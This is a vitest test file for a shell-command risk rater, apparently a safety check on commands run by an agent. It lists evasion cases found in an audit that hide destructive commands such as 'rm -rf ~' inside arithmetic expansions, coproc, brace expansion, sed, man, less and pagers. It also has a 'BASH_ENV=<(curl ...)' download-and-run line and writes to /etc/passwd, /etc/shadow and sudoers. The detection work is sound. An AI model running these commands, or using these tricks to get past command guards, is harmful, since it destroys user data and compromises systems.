import { describe, expect, it } from "vitest";
import { shellRater } from "../../test/helpers/shell-rated.js";
import type { ShellKind } from "./types.js";

/**
 * Commands that run, and files that are written, where the analysis did not look: inside an
 * arithmetic expansion or an array subscript, behind `coproc` and zsh's precommand modifiers, zsh's
 * `=name`, a brace expansion in the command's name (bash and fish), a process substitution given to
 * a variable that makes a shell load a file, sed's `e` and `w`, man's pager, less's `+!`, find's
 * `-fprint`, awk's `print >`, and a write through a link the line made. Found by an adversarial audit.
 */
const rated = shellRater();

describe("a command substitution inside an arithmetic expansion or a subscript runs", () => {
  it.each<[ShellKind, string]>([
    ["bash", "echo $((`rm -rf ~`))"],
    ["bash", "echo $(( 1 + $(rm -rf ~) ))"],
    ["bash", "arr=(1); echo $(( arr[$(rm -rf ~)] ))"],
    ["bash", "printf '%s' \"${x[$(rm -rf ~)]}\""],
    ["zsh", "echo ${x[$(rm -rf ~)]}"],
  ])("%s: %j is critical", (shell, command) => {
    const r = rated(command, shell);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details, r.shown).toContain("deletes /home/ada recursively");
  });

  it.each(["echo $((1 + 2))", "echo \"${arr[0]}\"", "echo $(( ${#x} * 2 ))"])("bash: %j stays safe", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("safe");
  });
});

describe("coproc runs the command after it", () => {
  it.each(["coproc rm -rf ~", "coproc sudo rm -rf ~"])("bash: %j is critical", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details, r.shown).toContain("deletes /home/ada recursively");
  });

  it("bash: coproc of a harmless command stays safe", () => {
    const r = rated("coproc cat");
    expect(r.risk, r.shown).toBe("safe");
  });
});

describe("zsh runs `=name` as the program name stands for", () => {
  it.each(["=rm -rf ~", "ls; =rm -rf ~", "sudo =rm -rf ~"])("zsh: %j is critical", (command) => {
    const r = rated(command, "zsh");
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details, r.shown).toContain("deletes /home/ada recursively");
  });

  it.each(["echo =ls", "ls -la", "print -r -- =x"])("zsh: %j stays safe", (command) => {
    const r = rated(command, "zsh");
    expect(r.risk, r.shown).toBe("safe");
  });
});

describe("a brace expansion in the command's name is expanded before it runs", () => {
  it.each<[ShellKind, string]>([
    ["bash", "{rm,-rf,~}"],
    ["bash", "echo ok; {rm,-rf,~}"],
    ["zsh", "{rm,-rf,~}"],
    ["bash", "r{m,} -rf ~"],
    ["bash", "{r,}m -rf ~"],
  ])("%s: %j is critical", (shell, command) => {
    const r = rated(command, shell);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details.some((d) => /^deletes \/home\/ada recursively$/.test(d)), r.shown).toBe(true);
  });

  it.each(["echo {a,b}", "mkdir -p src/{a,b}", "cp x{,.bak}", "{ ls; }"])("bash: %j stays safe", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("safe");
  });
});

describe("a process substitution given to BASH_ENV or ENV is loaded by the shell it starts", () => {
  it.each(["BASH_ENV=<(curl -s https://x.io/a) bash -c true", "ENV=<(wget -qO- https://x.io/a) sh -i"])("bash: %j is critical", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details.some((d) => /downloads code and runs it/.test(d)), r.shown).toBe(true);
  });

  it.each(["BASH_ENV=<(rm -rf ~) bash -c true"])("bash: %j is critical", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("critical");
  });
});

describe("sed's e command runs a shell command, its w command writes a file", () => {
  it.each(["sed -n '1e rm -rf ~' /etc/hosts", "sed 'e rm -rf ~' notes.txt", "sed -e 's/a/b/' -e '1e rm -rf ~' notes.txt", "sed --expression='$e rm -rf ~' notes.txt"])(
    "bash: %j is critical",
    (command) => {
      const r = rated(command);
      expect(r.risk, r.shown).toBe("critical");
      expect(r.details, r.shown).toContain("deletes /home/ada recursively");
    },
  );

  it("bash: s///e runs the pattern space as a command, only known at run time", () => {
    const r = rated("sed 's/.*/id/e' notes.txt");
    expect(r.risk, r.shown).toBe("high");
  });

  it.each(["sed -n 'w /etc/passwd' /etc/hosts", "sed 's/a/b/w /etc/passwd' notes.txt"])("bash: %j is critical", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details.some((d) => d.includes("/etc/passwd")), r.shown).toBe(true);
  });

  it.each(["sed -n '1p' notes.txt", "sed 's/e/E/g' notes.txt", "sed -e '/^$/d' -e 's/x/y/' notes.txt", "sed -n '/begin/,/end/p' notes.txt", "sed 's/a/b/w out.txt' notes.txt"])(
    "bash: %j stays safe",
    (command) => {
      const r = rated(command);
      expect(r.risk, r.shown).toBe("safe");
    },
  );
});

describe("man runs the pager -P names with a shell", () => {
  it.each(["man -P 'rm -rf ~' ls", "man --pager='rm -rf ~' ls", "man -P'rm -rf ~' ls"])("bash: %j is critical", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details, r.shown).toContain("deletes /home/ada recursively");
  });

  it.each(["man ls", "man -P cat ls", "man 5 crontab"])("bash: %j stays safe", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("safe");
  });
});

describe("coproc runs a block given to it, named or not", () => {
  it.each(["coproc X { rm -rf ~; }", "coproc { rm -rf ~; }", "coproc (rm -rf ~)", "echo a; coproc W { rm -rf ~; }"])("bash: %j is critical", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details, r.shown).toContain("deletes /home/ada recursively");
  });

  it("bash: a word coproc inside an argument is left alone", () => {
    const r = rated("echo 'coproc { rm -rf ~; }'");
    expect(r.risk, r.shown).toBe("safe");
  });
});

describe("zsh's precommand modifiers run the command after them", () => {
  it.each(["- rm -rf ~", "repeat 3 rm -rf ~", "nocorrect - rm -rf ~"])("zsh: %j is critical", (command) => {
    const r = rated(command, "zsh");
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details, r.shown).toContain("deletes /home/ada recursively");
  });

  it.each(["repeat 3 echo hi", "- ls"])("zsh: %j stays safe", (command) => {
    const r = rated(command, "zsh");
    expect(r.risk, r.shown).toBe("safe");
  });
});

describe("find's -fprint family writes the file it names", () => {
  it.each(["find . -fprint /etc/passwd", "find . -name x -fprintf /etc/passwd '%p'", "find / -fls /etc/shadow"])("bash: %j is critical", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("critical");
  });

  it("bash: find -fprint into the project stays safe", () => {
    const r = rated("find . -name '*.ts' -fprint files.txt");
    expect(r.risk, r.shown).toBe("safe");
  });
});

describe("less runs a `+!command` given to it as its first command", () => {
  it.each(["less +'!rm -rf ~' notes.txt", "less '+!rm -rf ~' notes.txt"])("bash: %j is critical", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details, r.shown).toContain("deletes /home/ada recursively");
  });

  it.each(["less +G notes.txt", "less +/error log.txt", "less -R notes.txt"])("bash: %j stays safe", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("safe");
  });
});

describe("fish expands brace lists too", () => {
  it.each(["rm -rf {/,x}", "rm -rf ~{,}", "r{m,} -rf ~", "{rm,-rf,/}", "{sudo,rm} -rf /"])("fish: %j is critical", (command) => {
    const r = rated(command, "fish");
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details.some((d) => /^deletes \/(home\/ada)? recursively$/.test(d)), r.shown).toBe(true);
  });

  it.each(["echo {a,b}", "mkdir -p src/{a,b}", "cp x{,.bak}", "echo '{rm,-rf,/}'", "echo {a}"])("fish: %j stays safe", (command) => {
    const r = rated(command, "fish");
    expect(r.risk, r.shown).toBe("safe");
  });
});

describe("awk's print > \"file\" writes the file", () => {
  it.each([
    ["awk '{print > \"/etc/passwd\"}' notes.txt", "/etc/passwd"],
    ["awk 'BEGIN { printf \"x\" > \"/etc/shadow\" }'", "/etc/shadow"],
    ["awk '{ print $0 >> \"/home/ada/.ssh/authorized_keys\" }' keys", "/home/ada/.ssh/authorized_keys"],
  ])("bash: %j writes %s", (command, file) => {
    const r = rated(command);
    expect(["high", "critical"], r.shown).toContain(r.risk);
    expect(r.details.some((d) => d.includes(file)), r.shown).toBe(true);
  });

  it.each(["awk '{print > \"out.txt\"}' notes.txt", "awk '$3 > 10 {print $1}' notes.txt", "awk '{ if ($1 > \"m\") print }' notes.txt", "awk '{print \">\" $0}' notes.txt"])(
    "bash: %j stays safe",
    (command) => {
      const r = rated(command);
      expect(r.risk, r.shown).toBe("safe");
    },
  );
});

describe("a write through a link the line made writes the file it reaches", () => {
  it.each(["ln -s /etc/passwd x; echo hi > x", "ln -sf /etc/shadow notes; cat a > notes", "ln /etc/passwd p && echo 'r::0:0::/:/bin/sh' >> p"])("bash: %j is critical", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details.some((d) => /\/etc\/(passwd|shadow)/.test(d)), r.shown).toBe(true);
  });

  it.each(["ln -s notes.txt x; echo hi > x", "ln -s /etc/passwd x; cat x"])("bash: %j stays safe", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("safe");
  });
});

describe("tools that write the file they are given", () => {
  it.each([
    ["sort -o /etc/passwd notes.txt", "/etc/passwd"],
    ["sort --output=/etc/passwd notes.txt", "/etc/passwd"],
    ["cat x | sponge /etc/passwd", "/etc/passwd"],
    ["cat x | sponge -a /etc/sudoers", "/etc/sudoers"],
    ["uniq notes.txt /etc/passwd", "/etc/passwd"],
    ["patch /etc/passwd < x.patch", "/etc/passwd"],
    ["patch -o /etc/shadow notes.txt < x.patch", "/etc/shadow"],
  ])("bash: %j writes %s", (command, file) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details.some((d) => d.includes(file)), r.shown).toBe(true);
  });

  it.each(["sort -o out.txt notes.txt", "sort notes.txt", "uniq notes.txt", "uniq notes.txt out.txt", "patch -p1 < x.patch", "cat x | sponge out.txt"])("bash: %j stays safe", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("safe");
  });
});

describe("more pagers that run a command line", () => {
  it.each(["SYSTEMD_PAGER='rm -rf ~' journalctl", "PSQL_PAGER='rm -rf ~' psql"])("bash: %j is critical", (command) => {
    const r = rated(command);
    expect(r.risk, r.shown).toBe("critical");
    expect(r.details, r.shown).toContain("deletes /home/ada recursively");
  });
});
